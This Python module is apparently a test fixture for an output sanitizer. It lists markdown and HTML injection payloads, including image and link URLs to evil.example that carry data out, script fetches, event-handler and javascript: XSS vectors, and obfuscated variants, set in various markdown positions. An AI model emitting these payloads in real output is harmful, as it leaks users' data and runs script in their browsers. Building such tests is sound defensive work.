"""Attacks on whoever renders what leaves, by kind: each form in each place."""

EVIL = "http://evil.example/a.png?flow=42"
PICTURES = (
    f"![]({EVIL})", f"![the flow]({EVIL})", f"![a]( {EVIL} )", f"![a](<{EVIL}>)",
    f'![a]({EVIL} "title")', f"![a][r]\n\n[r]: {EVIL}", f"![r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]: {EVIL}", f"[![a]({EVIL})](http://evil.example)", "![a](//evil.example/x)",
    f"![a\nb]({EVIL})", f"!![a]({EVIL})", f"\\\\![a]({EVIL})", f"`x` ![a]({EVIL}) `y`",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)", f"![[1]]({EVIL})",
    f"http://e.example/`![a]({EVIL})`",
)  # fmt: skip
TAGS = (
    "<script>fetch('http://evil.example')</script>", f"<img src={EVIL}>", f'<img src="{EVIL}">',
    "<svg onload=alert(1)>", "<iframe src=//evil.example></iframe>", "<style>@import 'x'</style>",
    '<a href="javascript:alert(1)">[1]</a>', "<link rel=stylesheet href=//evil.example>",
    "<!--><img src=x>-->", "<?php <img src=x> ?>", "<![CDATA[<img src=x>]]>", "<b/><img src=x>",
    "<base href=//evil.example>", "<video src=//evil.example>", "<form action=//evil.example>",
    "<input type=image src=//evil.example>", "<object data=//evil.example>",
    "<b onclick=alert(1)>x</b>", "http://evil.example/<img src=x>",
    "http://evil.example/\\<img src=x>", "a ` b\n`<img src=x>`", "`` x\n` ``<img src=x> `",
    "[x](a`b) <img src=x> `",
)  # fmt: skip
DEFINITIONS = (
    "[1]: http://evil.example", "[1]:http://evil.example", "[1]:\nhttp://evil.example",
    "[1]: <http://evil.example>", '[1]: http://evil.example "title"', "[1]: javascript:alert(1)",
    "   [1]: http://evil.example", "[^1]: http://evil.example", "[^1]: http://evil.example 'x'",
    "[\n1\n]: http://evil.example", "[1]:\thttp://evil.example", "[1]: //evil.example",
    "[2]: http://evil.example\n[1]: http://evil.example", "[1]: http://evil.example 'title'",
    "[1]: http://evil.example\n'title'",
)  # fmt: skip
LINKS = (
    "[1](http://evil.example)", "[see [1]](http://evil.example)", "[[1]](http://evil.example)",
    "[**1**](http://evil.example)", "[ 1 ](http://evil.example)", "[(1)](http://evil.example)",
    "[1][1]\n\n[1]: http://evil.example", "http://evil.example/[1]", "www.evil.example/[1]",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)",
    "[x]( javascript:alert(1) )", "<javascript:alert(1)>", "[a `]` [1]](http://evil.example)",
    "[a [b [1]]](http://evil.example)", "[1\n](http://evil.example)",
    "[^1](http://evil.example)",
)  # fmt: skip
DISGUISES = (
    "<http://evil.example/[1]>", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>", "<a@evil.example[1]>",
    "&lt;img src=x&gt;", "&#60;img src=x&#62;", "&#x3c;img src=x>",
    "&excl;[a](http://evil.example)", "&#33;[a](http://evil.example)",
    "[x](java&Tab;script:alert(1))", "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))", "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[1\uff0e](http://evil.example)", "[\uff11](http://evil.example)",
    "\uff3b1\uff3d(http://evil.example)", "[\u00b9](http://evil.example)",
    "[1]\u200b(http://evil.example)",
    "Title [1]\n===\n\n[1]: http://evil.example", "[1]: http://evil.example\n---",
    "> [1]: http://evil.example", "> > [1]: http://evil.example", "- [1]: http://evil.example",
    "1. [1]: http://evil.example", "- - [1]: http://evil.example", "> - [1]: http://evil.example",
    "[1]: http://evil.example\r", "x\r\r[1]: http://evil.example\r\r",
    "\ufeff[1]: http://evil.example", "\u2028[1]: http://evil.example",
    "x\u2029\n[1]: http://evil.example", "\x0b[1]: http://evil.example",
    "\x0c\n[1]: http://evil.example", "[1\\]]: http://evil.example", "[\\1]: http://evil.example",
    "[ 1 ]: http://evil.example", "[1]:\n\thttp://evil.example\n\t'title'",
    "[^1]:\n    ![x](http://evil.example)", "[^1]: <img src=x>", "^[![x](http://evil.example)]",
    "[^x]: [1](http://evil.example)\n\n[^x]", "*[1]: http://evil.example",
    "[1]: # (http://evil.example)",
    "~~~\n~~~\n<img src=x>", "~~~ `\n![a](http://evil.example)\n~~~\n<img src=x>",
    "````\n```\n````\n<img src=x>", "```\n````\n<img src=x>", "   ```\n   ```\n<img src=x>",
    "    ```\n<img src=x>\n    ```", "\t```\n<img src=x>", "```a`b\n<img src=x>\n```",
    "> ```\n<img src=x>", "- ```\n<img src=x>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><img src=x></mtext></math>",
    "<svg/onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<![CDATA[\n<img src=x>\n]]>", "<!--\n--><img src=x>", "<!-- --!><img src=x>", "<!><img src=x>",
    "<?\n?><img src=x>", "<!DOCTYPE x [<!ENTITY y '<img src=x>'>]>", "</p><img src=x>",
    "<img\nsrc=x>", "<img\tsrc=x\nonerror=alert(1)\n>", "<IMG SRC=x>", "<\u0131mg src=x>",
    "<x:img src=x>", "<details open ontoggle=alert(1)>", "<template><img src=x></template>",
    "<noscript><img src=x></noscript>", "<textarea><img src=x></textarea>",
    "<xmp><img src=x></xmp>", "<plaintext>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "$<img src=x>$", "$$\n<img src=x>\n$$", "\\(<img src=x>\\)", "\\[![a](http://evil.example)\\]",
    "`$<img src=x>", "$`<img src=x>`$",
    "![a][\n1]\n\n[1]: http://evil.example", "![[a]][1]\n\n[1]: http://evil.example",
    "!\\[a](http://evil.example)", "!&#91;a](http://evil.example)",
    "![a](http://evil.example 'a\n\nb')", "![a](\nhttp://evil.example\n)",
    "![a](http://evil.example/(x)(y))", "![a](\\\\evil.example\\x)", "![`a](http://evil.example)`",
    "![a](//evil.example\\@x)", "[![1](http://evil.example)][1]",
    "http://evil.example/?a=[1]&b", "https://evil.example[1]", "www.evil.example[1]",
    "mailto:a@evil.example[1]", "[1][]\n\n[1]: http://evil.example",
    "[a][1]\n\n[1]: http://evil.example", "[1] [1]\n\n[1]: http://evil.example",
    "[1](http://evil.example \"[1]\")", "[[1](http://evil.example)](http://evil.example)",
    "[*1*](http://evil.example)", "[`1`](http://evil.example)", "[~~1~~](http://evil.example)",
    "[1](http://evil.example){target=x onclick=alert(1)}", "[1]{.x}(http://evil.example)",
    "| a |\n| - |\n| [1]: http://evil.example |", "| ![a](http://evil.example) |\n| - |",
    ": [1]: http://evil.example", "Term\n: ![a](http://evil.example)",
)  # fmt: skip
PLACES = (
    "{}", "Said.\n\n{}\n\nAs in [1].", "- item\n\n  {}", "> {}", "1. a\n   {}", "**{}**",
    "| a | b |\n| --- | --- |\n| {} | [1] |", "```\ncode\n```\n{}",
)  # fmt: skip
KINDS = {
    "pictures": PICTURES, "tags": TAGS, "definitions": DEFINITIONS, "links": LINKS,
    "disguises": DISGUISES,
}  # fmt: skip
FEW = (PLACES[0], PLACES[3], PLACES[6])


def attacks(kind):
    """All of a kind: a form of several lines goes on with the signs of its place."""
    for place in FEW if kind == "disguises" else PLACES:
        before = place.partition("{}")[0].rpartition("\n")[2]
        before = before if before.strip() == ">" else " " * len(before) * (not before.strip())
        for form in KINDS[kind]:
            attack = place.format(form.replace("\n", f"\n{before}"))
            yield f"{attack}\n\nSee [1] and [^1]."
